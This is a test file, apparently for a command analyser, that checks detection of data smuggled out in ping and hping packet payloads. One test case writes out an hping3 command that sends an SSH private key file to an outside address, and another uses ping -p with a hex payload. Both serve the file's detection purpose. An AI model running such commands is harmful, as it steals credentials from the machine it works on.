import { describe, expect, it } from 'vitest';
import { payloadMessage } from '../../src/extract/exfil-payload.js';
import { command } from '../helpers/command.js';

const payloads = (argv: string[]) =>
  [payloadMessage(command(argv))]
    .filter((m) => m !== undefined)
    .map((m) => [m.sink, m.host, m.dataArgs.join(','), m.files.join(','), m.sendsStdin]);

describe('data carried out in packet payloads', () => {
  it.each<[string[], (string | boolean)[][]]>([
    [['ping', '-c', '1', '-p', 'deadbeef', '203.0.113.9'], [['ping', '203.0.113.9', '4', '', false]]],
    [
      ['hping3', '-1', '-E', '/home/u/.ssh/id_rsa', '-d', '1200', '198.51.100.7'],
      [['hping', '198.51.100.7', '', '/home/u/.ssh/id_rsa', false]],
    ],
    // a ping with no payload, other programs
    [['ping', '-c', '3', 'example.com'], []],
    [['ping6', '-i', '0.2', '::1'], []],
    [['hping3', '-S', '-p', '80', 'example.com'], []],
  ])('%j', (argv, want) => expect(payloads(argv)).toEqual(want));
});
